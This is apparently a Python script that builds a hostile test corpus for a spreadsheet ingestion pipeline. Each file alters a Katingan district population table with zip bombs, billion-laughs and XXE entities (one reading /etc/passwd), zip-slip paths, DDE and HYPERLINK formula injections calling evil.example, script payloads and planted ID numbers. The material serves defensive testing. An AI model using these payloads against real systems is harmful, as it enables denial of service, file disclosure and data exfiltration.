"""Writes the hostile corpus in `files/` byte for byte: `python tests/hostile/make_files.py [--check]`.

Every file is built from the same table, the Disdukcapil population of Kabupaten Katingan (62.06) per
kecamatan and sex in 2025 (the bundled sample's figures), with one hostile change. Workbooks, ODS and zips are
written by hand (raw XML parts, a raw zip writer with fixed times), so re-running gives the same bytes and a
case can break exactly one rule (a lying size, a wrong CRC, a DOCTYPE in one part). `--check` compares the
files on disk with what this script writes instead of writing them. What each file is, and what the pipeline
must do with it, is in `expected.yaml` and `README.md`.
"""

from __future__ import annotations

import argparse
import struct
import sys
import zlib
from pathlib import Path
from xml.sax.saxutils import escape

HERE = Path(__file__).resolve().parent
FILES = HERE / "files"

# Kemendagri name, laki-laki, perempuan (Dukcapil 2025 in the sample inbox).
KECAMATAN = [
    ("Kamipang", 4932, 4575), ("Katingan Hilir", 23282, 21595), ("Tewang Sangalang Garing", 6592, 6115),
    ("Pulau Malan", 4756, 4411), ("Katingan Tengah", 11090, 10287), ("Sanaman Mantikei", 5974, 5541),
    ("Marikit", 4324, 4010), ("Katingan Hulu", 5620, 5213), ("Mendawai", 4911, 4556),
    ("Katingan Kuala", 10889, 10100), ("Tasik Payawan", 4024, 3732), ("Petak Malai", 2972, 2757),
    ("Bukit Raya", 5035, 4670),
]
TITLE = "Tabel 3.1 Jumlah Penduduk Menurut Kecamatan dan Jenis Kelamin di Kabupaten Katingan, 2025"
SOURCE = "Sumber: Dinas Kependudukan dan Pencatatan Sipil Kabupaten Katingan (data konsolidasi semester I)"
NOTE = "Catatan: data per 30 Juni 2025"
MERGED = ["A4:A5", "B4:B5", "C4:D4", "E4:E5"]
FIRST_DATA_ROW = 7  # row 7 is Kamipang, row 19 Bukit Raya, row 20 the total

# Planted values: NIK (16 digits, first six a Katingan kecamatan: 62.06.01 Kamipang) that must never leave the
# raw zone in clear. One per case, so a leak names its source.
NIK = {
    "nama": "6206011508900001", "nilai_teks": "6206012708850002", "nilai_angka": "6206010101800003",
    "header": "6206014112920004", "judul": "6206016303700005", "catatan": "6206012201950006",
    "nama_panjang": "6206010612880007", "nama_berkas": "6206015007990008", "csv": "6206013009770009",
    "nbsp": "6206011203910010", "spasi_unicode": "6206012304920011", "en_dash": "6206010405930012",
    "minus": "6206011506940013", "garis_miring": "6206012607950014", "garis_bawah": "6206010708960015",
    "koma": "6206011809970016", "tab": "6206012910980017", "lebar": "6206013011990018", "arab": "6206014112000019",
    "nama_sheet": "6206015201010020",
}


def _spelled(digits: str, seps: str | list[str], sizes=(4, 4, 4, 4), zero: str = "0") -> str:
    """`digits` in groups of `sizes` joined by `seps` (one, or one per gap), in the digits starting at `zero`."""
    at = [sum(sizes[:i]) for i in range(len(sizes) + 1)]
    digit = {ord("0") + d: ord(zero) + d for d in range(10)}
    groups = [digits[a:b].translate(digit) for a, b in zip(at, at[1:], strict=False)]
    seps = seps if isinstance(seps, list) else [seps] * (len(groups) - 1)
    return groups[0] + "".join(sep + g for sep, g in zip(seps, groups[1:], strict=True))


# The same NIKs as spelled in the files of the `nik_*` spelling cases: each must be found and masked (620601******…)
# whatever its separators and digits; the leak scan looks for these spellings and for their ASCII digits.
NIK_SPELLED = {
    "nbsp": _spelled(NIK["nbsp"], "\u00a0"),
    "spasi_unicode": _spelled(NIK["spasi_unicode"], ["\u202f", "\u2007", "\u3000"]),
    "en_dash": _spelled(NIK["en_dash"], "\u2013"),
    "minus": _spelled(NIK["minus"], ["\u2212", "\u2014", "\u2011"]),
    "garis_miring": _spelled(NIK["garis_miring"], "/", (6, 6, 4)),
    "garis_bawah": _spelled(NIK["garis_bawah"], "_", (2, 2, 2, 6, 4)),
    "koma": _spelled(NIK["koma"], ","),
    "tab": _spelled(NIK["tab"], "\t"),
    "lebar": _spelled(NIK["lebar"], [], (16,), zero="\uff10"),  # fullwidth digits
    "arab": _spelled(NIK["arab"], " ", zero="\u0660"),  # Arabic-Indic digits
    "nama_sheet": _spelled(NIK["nama_sheet"], "\u2013", (6, 6, 4)),
}


# ------------------------------------------------------------------------------------------------ the table

def table(year: int = 2025, names: dict[int, str] | None = None, values: dict[tuple[int, int], object] | None = None,
          title: str = TITLE, note: str = NOTE, header_extra: str | None = None) -> list[list]:
    """The population table as rows of cells; `names` {kecamatan index: name as written}, `values`
    {(kecamatan index, 0 = L | 1 = P): cell}; `header_extra` adds a sixth column with that header."""
    names, values = names or {}, values or {}
    extra = [header_extra] if header_extra else []
    rows = [[title.replace("2025", str(year))], ["Table 3.1 Population by Subdistrict and Sex in Katingan "
                                                 f"Regency, {year}"], [],
            ["No", "Kecamatan/Subdistrict", "Jenis Kelamin/Sex", None, "Jumlah/Total", *extra],
            [None, None, "Laki-laki/Male", "Perempuan/Female", None, *([None] if extra else [])],
            ["(1)", "(2)", "(3)", "(4)", "(5)", *(["(6)"] if extra else [])]]
    for i, (name, lk, pr) in enumerate(KECAMATAN):
        cells = [values.get((i, 0), lk), values.get((i, 1), pr)]
        total = lk + pr if all(isinstance(v, int) for v in cells) else None
        rows.append([i + 1, names.get(i, name), *cells, total, *(["-"] if extra else [])])
    rows.append([None, "Jumlah/Total", sum(k[1] for k in KECAMATAN), sum(k[2] for k in KECAMATAN),
                 sum(k[1] + k[2] for k in KECAMATAN)])
    rows += [[], [SOURCE], [note]]
    return rows


def _col(i: int) -> str:
    from walidata.sources.spreadsheet import col_letter  # the reader's own column letters

    return col_letter(i)


def _ooxml_text(s: str) -> str:
    """Cell text as OOXML writes it: XML-escaped, control characters as _xHHHH_ (what Excel does)."""
    return "".join(f"_x{ord(c):04X}_" if ord(c) < 32 and c not in "\t\n\r" else c for c in escape(s))


def _cell(ref: str, v) -> str:
    if v is None:
        return ""
    if isinstance(v, tuple) and v[0] == "f":  # ("f", formula, cached text): a formula cell and its cached value
        return f'<c r="{ref}" t="str"><f>{escape(v[1])}</f><v>{escape(v[2])}</v></c>'
    if isinstance(v, tuple) and v[0] == "s":  # ("s", index): a shared string
        return f'<c r="{ref}" t="s"><v>{v[1]}</v></c>'
    if isinstance(v, int | float) and not isinstance(v, bool):
        return f'<c r="{ref}"><v>{v!r}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{_ooxml_text(str(v))}</t></is></c>'


def sheet_xml(rows: list[list], merged=MERGED, far: dict[str, str] | None = None, prolog: str = "",
              dimension: str | None = None) -> bytes:
    """A worksheet part; `far` {'XFD7': text} adds cells far to the right or bottom, `prolog` goes before the
    root element (a DOCTYPE), `dimension` is the (advisory) used range the part declares."""
    far = far or {}
    by_row: dict[int, list[str]] = {}
    for r, row in enumerate(rows, start=1):
        by_row[r] = [_cell(f"{_col(c)}{r}", v) for c, v in enumerate(row)]
    for ref, v in far.items():
        r = int("".join(ch for ch in ref if ch.isdigit()))
        by_row.setdefault(r, []).append(_cell(ref, v))
    body = "".join(f'<row r="{r}">{"".join(cells)}</row>' for r, cells in sorted(by_row.items()) if cells)
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    merges = (f'<mergeCells count="{len(merged)}">' + "".join(f'<mergeCell ref="{m}"/>' for m in merged)
              + "</mergeCells>") if merged else ""
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{prolog}'
            f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{dim}'
            f"<sheetData>{body}</sheetData>{merges}</worksheet>").encode()


# ------------------------------------------------------------------------------------------------ zips

DOS_TIME, DOS_DATE = 0, ((2026 - 1980) << 9) | (1 << 5) | 1  # 2026-01-01 00:00:00


class Part:
    """One zip entry; `crc` / `size` override what the headers declare (a lying or damaged zip)."""

    def __init__(self, name: str, data: bytes, deflate: bool = True, crc: int | None = None,
                 size: int | None = None):
        self.name, self.data, self.deflate, self.crc, self.size = name, data, deflate, crc, size


def _deflate(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15, 9)
    return c.compress(data) + c.flush()


def zip_bytes(parts: list[Part], aliases: dict[str, str] | None = None) -> bytes:
    """A zip written by hand; `aliases` {new name: existing part} adds central-directory entries that point at
    an existing part's data (the overlapping-entries bomb)."""
    out, central = bytearray(), []
    for p in parts:
        name = p.name.encode()
        comp = _deflate(p.data) if p.deflate else p.data
        crc = zlib.crc32(p.data) if p.crc is None else p.crc
        size = len(p.data) if p.size is None else p.size
        fields = (8 if p.deflate else 0, DOS_TIME, DOS_DATE, crc, len(comp), size, len(name))
        central.append((name, fields, len(out)))
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x800, *fields, 0) + name + comp
    by_name = {c[0].decode(): c for c in central}
    for alias, target in (aliases or {}).items():
        _, fields, offset = by_name[target]
        central.append((alias.encode(), (*fields[:-1], len(alias.encode())), offset))
    start = len(out)
    for name, fields, offset in central:
        out += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x800, *fields, 0, 0, 0, 0, 0, offset) + name
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), len(out) - start, start, 0)
    return bytes(out)


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    b'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
    b'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    b'spreadsheetml.worksheet+xml"/></Types>')
ROOT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats'
    b'.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
WORKBOOK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats'
    b'.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')


def workbook_xml(sheet_name: str = "2025", prolog: str = "") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{prolog}<workbook xmlns="http://schemas.'
            'openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/'
            f'officeDocument/2006/relationships"><sheets><sheet name="{sheet_name}" sheetId="1" r:id="rId1"/>'
            "</sheets></workbook>").encode()


def xlsx_parts(sheet: bytes | None = None, workbook: bytes | None = None) -> list[Part]:
    return [Part("[Content_Types].xml", CONTENT_TYPES), Part("_rels/.rels", ROOT_RELS),
            Part("xl/workbook.xml", workbook or workbook_xml()), Part("xl/_rels/workbook.xml.rels", WORKBOOK_RELS),
            Part("xl/worksheets/sheet1.xml", sheet or sheet_xml(table()))]


def xlsx(rows: list[list] | None = None, **sheet_args) -> bytes:
    return zip_bytes(xlsx_parts(sheet_xml(rows or table(), **sheet_args)))


SHARED_STRINGS_REL = (
    b'<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'sharedStrings" Target="sharedStrings.xml"/></Relationships>')


def with_shared_strings(parts: list[Part], strings: bytes) -> list[Part]:
    """The parts with a sharedStrings.xml (cells of type 's' index into it)."""
    out = []
    for p in parts:
        if p.name == "xl/_rels/workbook.xml.rels":
            p = Part(p.name, p.data.replace(b"</Relationships>", SHARED_STRINGS_REL))
        out.append(p)
    return [*out, Part("xl/sharedStrings.xml", strings)]


# ------------------------------------------------------------------------------------------------ ods, csv, html

ODS_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"')
ODS_MANIFEST = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:'
    b'xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type='
    b'"application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path="content.xml" '
    b'manifest:media-type="text/xml"/></manifest:manifest>')


def _ods_cell(v) -> str:
    if v is None:
        return "<table:table-cell/>"
    if isinstance(v, int | float):
        return (f'<table:table-cell office:value-type="float" office:value="{v!r}"><text:p>{v!r}</text:p>'
                "</table:table-cell>")
    return f'<table:table-cell office:value-type="string"><text:p>{escape(str(v))}</text:p></table:table-cell>'


def ods(rows: list[list], prolog: str = "", tail: str = "") -> bytes:
    """An OpenDocument spreadsheet with one sheet '2025' (no merged cells); `tail` is raw rows after the table."""
    body = "".join("<table:table-row>" + "".join(_ods_cell(v) for v in row) + "</table:table-row>"
                   for row in rows if row) + tail
    content = (f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}<office:document-content {ODS_NS}><office:body>'
               f'<office:spreadsheet><table:table table:name="2025">{body}</table:table></office:spreadsheet>'
               "</office:body></office:document-content>").encode()
    return zip_bytes([Part("mimetype", b"application/vnd.oasis.opendocument.spreadsheet", deflate=False),
                      Part("META-INF/manifest.xml", ODS_MANIFEST), Part("content.xml", content)])


def csv_rows(names: dict[int, str] | None = None, values: dict[tuple[int, int], str] | None = None,
             title: str = TITLE) -> list[list[str]]:
    """The table as a one-row-header CSV (the `penduduk_kecamatan_csv` dataset): title line, header, data."""
    names, values = names or {}, values or {}
    rows = [[title], ["No", "Kecamatan", "Laki-laki", "Perempuan", "Jumlah"]]
    for i, (name, lk, pr) in enumerate(KECAMATAN):
        cells = [values.get((i, 0), f"{lk:,}".replace(",", ".")), values.get((i, 1), f"{pr:,}".replace(",", "."))]
        rows.append([str(i + 1), names.get(i, name), *cells, f"{lk + pr:,}".replace(",", ".")])
    rows += [["", "Jumlah", "94.401", "87.562", "181.963"], [SOURCE]]
    return rows


def csv_text(rows: list[list[str]], sep: str = ";", newline: str = "\r\n") -> str:
    return "".join(sep.join(row) + newline for row in rows)


def html_page(head: str = "", cell_attrs: str = "", extra_rows: str = "") -> bytes:
    """The table as a BPS-style HTML download (the `penduduk_kecamatan_html` dataset)."""
    rows = "".join(f"<tr><td>{i + 1}</td><td{cell_attrs}>{escape(n)}</td><td>{lk}</td><td>{pr}</td>"
                   f"<td>{lk + pr}</td></tr>" for i, (n, lk, pr) in enumerate(KECAMATAN))
    return (f'{head}<html><head><meta charset="utf-8"></head><body><h3>{escape(TITLE)}</h3><table border="1">'
            '<tr><th rowspan="2">No</th><th rowspan="2">Kecamatan</th><th colspan="2">Jenis Kelamin</th>'
            '<th rowspan="2">Jumlah</th></tr><tr><th>Laki-laki</th><th>Perempuan</th></tr>'
            f"{rows}{extra_rows}<tr><td></td><td>Jumlah</td><td>94401</td><td>87562</td><td>181963</td></tr>"
            f"</table><p>{escape(SOURCE)}</p></body></html>").encode()


# ------------------------------------------------------------------------------------------------ the cases

LAUGHS = "<!DOCTYPE lolz [<!ENTITY lol \"lol\">" + "".join(
    f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)) + "]>\n"
XXE_FILE = '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
XXE_HTTP = '<!DOCTYPE workbook [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/walidata-xxe">]>\n'
SPACES = b" " * (1 << 20)


def _padding(mb: int) -> bytes:
    return SPACES * mb


def bomb_ratio() -> bytes:
    """Honest sizes: 120 MB of spaces in a part, ~120 KB packed (ratio ≈ 1000)."""
    return zip_bytes([*xlsx_parts(), Part("xl/media/isian.bin", _padding(120))])


def bomb_lying_size() -> bytes:
    """The sheet part declares 3 KB unpacked; its deflate stream unpacks to 150 MB (spaces after the table)."""
    sheet = sheet_xml(table())
    real = sheet.replace(b"</worksheet>", _padding(150) + b"</worksheet>")
    parts = xlsx_parts()
    parts[-1] = Part("xl/worksheets/sheet1.xml", real, size=len(sheet), crc=zlib.crc32(real))
    return zip_bytes(parts)


def bomb_overlap() -> bytes:
    """One 50 MB part of spaces and 40 more directory entries pointing at the same bytes (2 GB declared)."""
    parts = [*xlsx_parts(), Part("xl/media/isian.bin", _padding(50))]
    return zip_bytes(parts, {f"xl/media/isian_{i:02d}.bin": "xl/media/isian.bin" for i in range(40)})


def xxe_shared_strings() -> bytes:
    """sharedStrings.xml declares an external entity (file:///etc/passwd) and uses it as Kamipang's name."""
    strings = (f'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n{XXE_FILE}<sst xmlns="http://schemas.'
               'openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>')
    parts = xlsx_parts(sheet_xml(table(names={0: ("s", 0)})))
    return zip_bytes(with_shared_strings(parts, strings.encode()))


def dtd_utf16() -> bytes:
    """The sheet part in UTF-16 (with BOM), its DOCTYPE defining nested entities used in a name cell."""
    sheet = sheet_xml(table(names={0: "KAMIPANG_ENTITAS"}), prolog=LAUGHS).decode()
    sheet = sheet.replace('encoding="UTF-8"', 'encoding="UTF-16"').replace("KAMIPANG_ENTITAS", "&lol3;")
    parts = xlsx_parts(("\ufeff" + sheet).encode("utf-16-le"))
    return zip_bytes(parts)


def entity_sheet() -> bytes:
    sheet = sheet_xml(table(names={0: "KAMIPANG_ENTITAS"}), prolog=LAUGHS)
    return zip_bytes(xlsx_parts(sheet.replace(b"KAMIPANG_ENTITAS", b"&lol9;")))


def entity_ods() -> bytes:
    data = ods(table(names={0: "KAMIPANG_ENTITAS"}), prolog=LAUGHS)
    return _rezip_replace(data, "content.xml", b"KAMIPANG_ENTITAS", b"&lol9;")


def _rezip_replace(data: bytes, part: str, old: bytes, new: bytes) -> bytes:
    import io
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        parts = [Part(i.filename, z.read(i).replace(old, new) if i.filename == part else z.read(i),
                      deflate=i.compress_type != zipfile.ZIP_STORED) for i in z.infolist()]
    return zip_bytes(parts)


def wrong_crc() -> bytes:
    """The sheet stored (not deflated) with four figures changed so every total still adds up; the CRC is the
    original's: only the CRC tells that the bytes are not what the OPD saved."""
    good = sheet_xml(table())
    bad = sheet_xml(table(values={(0, 0): 4942, (0, 1): 4565, (1, 0): 23272, (1, 1): 21605}))
    assert len(good) == len(bad)
    parts = xlsx_parts()
    parts[-1] = Part("xl/worksheets/sheet1.xml", bad, deflate=False, crc=zlib.crc32(good))
    return zip_bytes(parts)


def zip_slip() -> bytes:
    """A readable workbook plus parts named to land outside any folder they were extracted to."""
    return zip_bytes([*xlsx_parts(), Part("../../../../../../tmp/walidata_zip_slip.txt", b"zip slip\n"),
                      Part("/tmp/walidata_zip_absolut.txt", b"absolute\n")])


def ods_repeat_bomb() -> bytes:
    tail = ('<table:table-row table:number-rows-repeated="1048000"><table:table-cell table:number-columns-repeated='
            '"16000" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>')
    return ods(table(), tail=tail)


def html_spans() -> bytes:
    cells = "".join('<td rowspan="1000" colspan="1000">x</td>' for _ in range(40))
    return html_page(extra_rows=f"<tr><td>99</td><td>Kamipang</td>{cells}</tr>")


def html_entities() -> bytes:
    return html_page(head=LAUGHS.replace("lolz", "html") + "<p>&lol9;</p>")


CONTROL_NAMES = {0: "\x1b[31mKamipang\x1b[0m", 1: "Katingan Hilir\x07\x07", 2: "Tewang\x00Sangalang Garing"}
DDE = {0: "=cmd|' /C calc'!A0", 1: "+cmd|' /C notepad'!A0", 2: "-2+3+cmd|' /C calc'!A0",
       3: "@SUM(1+1)*cmd|' /C calc'!A0"}
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C7,"Kamipang")'
SCRIPT = {0: "<script>alert(1)</script>", 1: "<img src=x onerror=alert(2)>"}
LONG_NAME = "Kamipang " + "A" * 100_000


def _csv(text: str, encoding: str = "cp1252") -> bytes:
    return text.encode(encoding)


def csv_mixed() -> bytes:
    """Lines saved by two programs: the title in UTF-8 (en dash), the source line in Windows-1252 (©, é)."""
    rows = csv_rows(title=TITLE.replace(", 2025", " – 2025"))
    text = csv_text(rows)
    head, tail = text.rsplit(SOURCE, 1)
    return head.encode("utf-8") + (SOURCE + " © 2025 Disdukcapil, diolah oleh Bidang PIAK (Pendataan) é").encode(
        "cp1252") + tail.encode("utf-8")


def csv_wide() -> bytes:
    rows = csv_rows()
    rows[1] = [*rows[1], *(f"k{i}" for i in range(20_000))]
    return _csv(csv_text(rows))


def formula_file_name() -> bytes:
    """Clean figures but one cell that cannot be read ('12,5' people), so a feedback workbook names the file."""
    return xlsx(table(values={(4, 0): "12,5"}))


def _base() -> bytes:
    return xlsx()


# file name → bytes. Names are safe on every OS git runs on; the names that are not (backslashes, 200+
# characters) and the symlinks are made at test time from these files (see expected.yaml: nama_di_inbox, siapkan).
BUILDERS = {
    "penduduk_bersih.xlsx": _base,
    "penduduk ĉ 카팅안 🙂 2025.xlsx": _base,
    f"penduduk_{NIK['nama_berkas']}.xlsx": _base,
    "bom_rasio.xlsx": bomb_ratio,
    "bom_ukuran_palsu.xlsx": bomb_lying_size,
    "bom_tumpang_tindih.xlsx": bomb_overlap,
    "xml_billion_laughs.xlsx": entity_sheet,
    "xml_xxe_berkas.xlsx": xxe_shared_strings,
    "xml_xxe_workbook.xlsx": lambda: zip_bytes(xlsx_parts(workbook=workbook_xml("&xxe;", prolog=XXE_HTTP))),
    "xml_dtd_utf16.xlsx": dtd_utf16,
    "xml_billion_laughs.ods": entity_ods,
    "zip_terpotong.xlsx": lambda: _base()[: len(_base()) // 2],
    "zip_crc_salah.xlsx": wrong_crc,
    "zip_bukan_xlsx.xlsx": lambda: zip_bytes([Part("laporan.txt", b"bukan workbook\n"),
                                              Part("data.csv", csv_text(csv_rows()).encode())]),
    "zip_tanpa_workbook.xlsx": lambda: zip_bytes([p for p in xlsx_parts() if p.name != "xl/workbook.xml"]),
    "zip_nama_bagian_jahat.xlsx": zip_slip,
    "sel_terjauh.xlsx": lambda: xlsx(far={"XFD1048576": "x"}),
    "kolom_16384.xlsx": lambda: xlsx(far={"XFD7": "x"}),
    "baris_sejuta.xlsx": lambda: xlsx(far={"A1048576": "x"}),
    "dimensi_palsu.xlsx": lambda: xlsx(dimension="A1:XFD1048576"),
    "ods_ulang_raksasa.ods": ods_repeat_bomb,
    "html_span_raksasa.xls": html_spans,
    "html_entitas.xls": html_entities,
    "teks_100rb.xlsx": lambda: xlsx(table(names={0: LONG_NAME})),
    "teks_140rb.csv": lambda: _csv(csv_text(csv_rows(names={0: "Kamipang " + "B" * 140_000}))),
    "csv_kolom_banyak.csv": csv_wide,
    "kendali_nama.xlsx": lambda: xlsx(table(names=CONTROL_NAMES)),
    "kendali_nama.csv": lambda: _csv(csv_text(csv_rows(names=CONTROL_NAMES))),
    "utf16le_tanpa_bom.csv": lambda: _csv(csv_text(csv_rows(title=TITLE.replace(", 2025", " – 2025"))),
                                          "utf-16-le"),
    "utf16be_bom.csv": lambda: _csv("\ufeff" + csv_text(csv_rows(title=TITLE.replace(", 2025", " – 2025"))),
                                    "utf-16-be"),
    "latin1_dinyatakan_utf8.csv": lambda: _csv(csv_text(csv_rows(title=TITLE + " © Disdukcapil")), "latin-1"),
    "campuran_utf8_cp1252.csv": csv_mixed,
    "cp1252_sah.csv": lambda: _csv(csv_text(csv_rows(title=TITLE.replace(", 2025", " – 2025 © Disdukcapil")))),
    "rumus_hyperlink.xlsx": lambda: xlsx(table(names={0: HYPERLINK})),
    "rumus_dde.xlsx": lambda: xlsx(table(names=DDE)),
    "rumus_dde.csv": lambda: _csv(csv_text(csv_rows(names=DDE))),
    "rumus_tersimpan.xlsx": lambda: xlsx(table(names={
        0: ("f", "cmd|' /C calc'!A0", "Kamipang"),
        1: ("f", 'HYPERLINK("http://evil.example/","Katingan Hilir")', "Katingan Hilir")})),
    "=HYPERLINK('evil.example') penduduk.xlsx": formula_file_name,
    "script_nama.xlsx": lambda: xlsx(table(names=SCRIPT)),
    "nik_sel_nama.xlsx": lambda: xlsx(table(names={0: NIK["nama"]})),
    "nik_nilai_teks.xlsx": lambda: xlsx(table(values={(0, 0): NIK["nilai_teks"]})),
    "nik_nilai_angka.xlsx": lambda: xlsx(table(values={(0, 0): int(NIK["nilai_angka"])})),
    "nik_header.xlsx": lambda: xlsx(table(header_extra=f"NIK petugas {NIK['header']}")),
    "nik_judul.xlsx": lambda: xlsx(table(title=TITLE + f" (disusun oleh NIK {NIK['judul']})")),
    "nik_catatan.xlsx": lambda: xlsx(table(note="Catatan: angka Kamipang dikoreksi atas laporan warga NIK "
                                                f"{NIK['catatan']} tanggal 3 Maret 2025")),
    "nik_nama_panjang.xlsx": lambda: xlsx(table(names={0: f"Kamipang (pelapor: NIK {NIK['nama_panjang']})"})),
    "nik_sel_nama.csv": lambda: _csv(csv_text(csv_rows(names={0: NIK["csv"]}))),
    "nik_nbsp.xlsx": lambda: xlsx(table(names={0: NIK_SPELLED["nbsp"]})),
    "nik_spasi_unicode.xlsx": lambda: xlsx(table(title=TITLE + f" (petugas {NIK_SPELLED['spasi_unicode']})")),
    "nik_en_dash.xlsx": lambda: xlsx(table(values={(0, 0): NIK_SPELLED["en_dash"]})),
    "nik_minus.xlsx": lambda: xlsx(table(note=f"Catatan: dikoreksi atas laporan NIK {NIK_SPELLED['minus']}")),
    "nik_garis_miring.xlsx": lambda: xlsx(table(title=TITLE + f" (disusun oleh NIK {NIK_SPELLED['garis_miring']})")),
    "nik_garis_bawah.xlsx": lambda: xlsx(table(note=f"Catatan: pelapor NIK {NIK_SPELLED['garis_bawah']}")),
    "nik_koma.xlsx": lambda: xlsx(table(names={0: f"Kamipang (pelapor: NIK {NIK_SPELLED['koma']})"})),
    "nik_tab.csv": lambda: _csv(csv_text(csv_rows(names={0: NIK_SPELLED["tab"]}))),
    "nik_lebar.xlsx": lambda: xlsx(table(values={(0, 0): NIK_SPELLED["lebar"]})),
    "nik_arab.xlsx": lambda: xlsx(table(header_extra=f"NIK petugas {NIK_SPELLED['arab']}")),
    "nik_nama_sheet.xlsx": lambda: zip_bytes(xlsx_parts(workbook=workbook_xml(f"NIK {NIK_SPELLED['nama_sheet']}"))),
}


def build(name: str) -> bytes:
    return BUILDERS[name]()


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--check", action="store_true", help="compare files/ with what this script writes")
    a = ap.parse_args(argv)
    FILES.mkdir(exist_ok=True)
    bad = []
    for name in BUILDERS:
        data, path = build(name), FILES / name
        if a.check:
            if not path.exists() or path.read_bytes() != data:
                bad.append(name)
            continue
        path.write_bytes(data)
        print(f"{len(data):>9,} B  {name}")
    extra = sorted(p.name for p in FILES.iterdir() if p.name not in BUILDERS)
    if bad or extra:
        print("differs from make_files.py:", bad, "not written by it:", extra, file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
